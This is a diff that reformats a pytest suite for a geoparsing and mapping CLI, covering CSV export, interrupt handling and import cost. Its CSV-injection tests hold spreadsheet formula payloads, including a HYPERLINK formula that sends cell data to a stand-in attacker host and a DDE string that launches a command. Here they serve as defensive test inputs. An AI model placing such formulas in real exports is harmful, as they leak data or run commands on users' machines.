@@ -18,9 +18,8 @@ import pandas as pd
 import pytest
 from shapely.geometry import Point
 
-from tests.cli_app import run_cli as run
-from geomap.cli.main import main
 from geomap.io.export import csv_safe, csv_unsafe, read_frame, write_frame
+from tests.cli_app import run_cli as run
 
 ROOT = Path(__file__).resolve().parents[2]
 SAMPLE = ROOT / "data" / "samples" / "us-boosting-iraq-base.txt"
@@ -48,8 +47,7 @@ def fake_pipeline(monkeypatch):
 
 def corpus(tmp_path, toponyms) -> Path:
     path = tmp_path / "gold.jsonl"
-    rows = [{"id": f"d{i}", "text": "Rockets struck Baghdad on Monday.", "toponyms": toponyms}
-            for i in range(3)]
+    rows = [{"id": f"d{i}", "text": "Rockets struck Baghdad on Monday.", "toponyms": toponyms} for i in range(3)]
     path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
     return path
 
@@ -75,8 +73,16 @@ def test_eval_with_gold_does_not_warn(tmp_path, capsys, fake_pipeline):
 
 
 # -- CSV injection --------------------------------------------------------------------------------
-DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
-             "@SUM(A1:A9)", "\t=1", "\r=1", "'=already quoted", "''@twice"]
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "'=already quoted",
+    "''@twice",
+]
 
 
 @pytest.mark.parametrize("text", DANGEROUS + ["plain", "", "'just a quote", "a=b", "Baghdad -1"])
@@ -87,9 +93,11 @@ def test_csv_safe_round_trips(text):
 
 
 def test_csv_export_neutralises_formulas_and_reads_back(tmp_path):
-    gdf = gpd.GeoDataFrame({"title": DANGEROUS, "lat": [-33.5] * len(DANGEROUS),
-                            "n": list(range(len(DANGEROUS)))},
-                           geometry=[Point(-70.1, -33.5)] * len(DANGEROUS), crs="EPSG:4326")
+    gdf = gpd.GeoDataFrame(
+        {"title": DANGEROUS, "lat": [-33.5] * len(DANGEROUS), "n": list(range(len(DANGEROUS)))},
+        geometry=[Point(-70.1, -33.5)] * len(DANGEROUS),
+        crs="EPSG:4326",
+    )
     path = write_frame(gdf, tmp_path / "e.csv")
     raw = pd.read_csv(path, dtype=str, keep_default_na=False)
     for cell in raw["title"]:
@@ -132,8 +140,13 @@ def test_sigint_in_a_real_process(tmp_path):
     out_file = tmp_path / "map.html"
     out_file.write_bytes(b"old")
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
-    proc = subprocess.run([sys.executable, "-c", SIGINT_SELF, "map", str(SAMPLE), "-o", str(out_file)],
-                          capture_output=True, text=True, env=env, timeout=120)
+    proc = subprocess.run(
+        [sys.executable, "-c", SIGINT_SELF, "map", str(SAMPLE), "-o", str(out_file)],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
     assert proc.returncode == 130, proc.stderr
     assert proc.stderr.strip() == "error: interrupted"
     assert out_file.read_bytes() == b"old" and sorted(p.name for p in tmp_path.iterdir()) == ["map.html"]
@@ -155,8 +168,14 @@ def test_sigint_while_the_command_line_imports(tmp_path):
     """
     out_file = tmp_path / "map.html"
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
-    proc = subprocess.Popen([sys.executable, "-m", "geomap", "map", str(SAMPLE), "-o", str(out_file)], cwd=ROOT,
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "geomap", "map", str(SAMPLE), "-o", str(out_file)],
+        cwd=ROOT,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=env,
+    )
     deadline = time.monotonic() + 60
     while not _loaded(proc.pid, "numpy") and proc.poll() is None and time.monotonic() < deadline:
         time.sleep(0.005)
@@ -178,8 +197,13 @@ def test_the_console_script_is_the_entry_wrapper():
 def test_import_geomap_is_light():
     """The public names load on first use: ``import geomap`` pulls in neither spaCy nor pandas."""
     code = "import sys, geomap; print(sorted(m for m in ('spacy', 'pandas', 'geopandas', 'typer') if m in sys.modules))"
-    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
-                          env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
+    proc = subprocess.run(
+        [sys.executable, "-c", code],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        timeout=120,
+    )
     assert proc.returncode == 0 and proc.stdout.strip() == "[]", proc.stdout + proc.stderr
     import geomap
 
@@ -201,7 +225,6 @@ def test_geojson_name_and_gpkg_layer_follow_the_final_file(tmp_path):
 
 
 def test_map_events_geojson_is_named_after_the_final_file(tmp_path, capsys):
-    code, _, err = run(capsys, "map", SAMPLE, "-q", "-o", tmp_path / "map.html",
-                       "--events", tmp_path / "ev.geojson")
+    code, _, err = run(capsys, "map", SAMPLE, "-q", "-o", tmp_path / "map.html", "--events", tmp_path / "ev.geojson")
     assert code == 0, err
     assert json.loads((tmp_path / "ev.geojson").read_text(encoding="utf-8"))["name"] == "ev"
